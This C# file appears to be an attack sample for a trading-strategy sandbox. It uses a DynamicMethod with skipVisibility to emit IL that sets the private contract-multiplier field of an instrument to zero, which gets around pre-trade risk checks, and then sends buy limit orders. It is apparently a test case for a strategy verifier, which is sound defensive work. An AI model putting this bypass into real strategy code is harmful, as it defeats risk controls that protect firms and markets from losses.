// Abuses: DynamicMethod with skipVisibility: code that no check of the assembly ever sees.
// Harm: anything; here it stores 0 into the private multiplier field.
// Kind: bypass of pre-trade risk.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Reflection;
using System.Reflection.Emit;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.DynamicMethodAttack;

public sealed class DynamicMethodStrategy : Strategy
{
    private readonly Action<Instrument> _zero;

    public DynamicMethodStrategy()
    {
        var method = new DynamicMethod("zero", null, [typeof(Instrument)], typeof(Instrument), skipVisibility: true);
        ILGenerator code = method.GetILGenerator();
        code.Emit(OpCodes.Ldarg_0);
        code.Emit(OpCodes.Ldc_I8, 0L);
        code.Emit(OpCodes.Stfld, typeof(Instrument).GetField("<ContractMultiplier>k__BackingField", BindingFlags.NonPublic | BindingFlags.Instance)!);
        code.Emit(OpCodes.Ret);
        _zero = method.CreateDelegate<Action<Instrument>>();
    }

    public override void OnBook(in BookEvent bookEvent)
    {
        _zero(Context.Instrument(bookEvent.Instrument));
        Act(1);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
